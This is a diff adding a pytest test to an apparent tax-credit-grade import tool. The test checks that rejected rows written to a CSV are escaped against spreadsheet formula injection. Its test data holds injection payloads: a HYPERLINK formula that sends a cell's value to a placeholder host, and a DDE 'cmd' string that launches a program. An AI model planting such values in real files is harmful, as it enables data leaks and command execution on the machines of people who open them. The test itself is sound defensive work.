@@ -73,6 +73,26 @@ def test_bad_rows_are_written_for_their_owner_alone(tmp_path: Path) -> None:
     ]
 
 
+def test_what_a_record_says_is_computed_by_no_spreadsheet(tmp_path: Path) -> None:
+    place, year = tmp_path / "rejects.csv", "1e9"
+    said = {
+        '"=HYPERLINK(""http://x/?""&B2,""甲"")"': """'=HYPERLINK("http://x/?"&B2,"甲")""",
+        "@SUM(1)": "'@SUM(1)",
+        "-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0",
+        "\uff1d1": "'\uff1d1",
+        "-1": "-1",
+        "'=1": "'=1",
+        "甲=乙": "甲=乙",
+    }
+    rows = [f"{name},{make_uscc(n)},{year},A" for n, name in enumerate(said)]
+    found, _ = collect(
+        tables("tax_credit_grade"), {"tax_credit_grade": grades(tmp_path, *rows)}, place
+    )
+    assert found.bad == len(said)
+    told = list(csv.reader(io.StringIO(place.read_text("utf-8-sig"))))
+    assert [row[len(HEADINGS)] for row in told[1:]] == list(said.values())
+
+
 def test_without_a_bad_row_there_is_no_file_of_them(tmp_path: Path) -> None:
     file = grades(tmp_path, f"甲,{make_uscc(1)},2024,A")
     place = tmp_path / "rejects.csv"
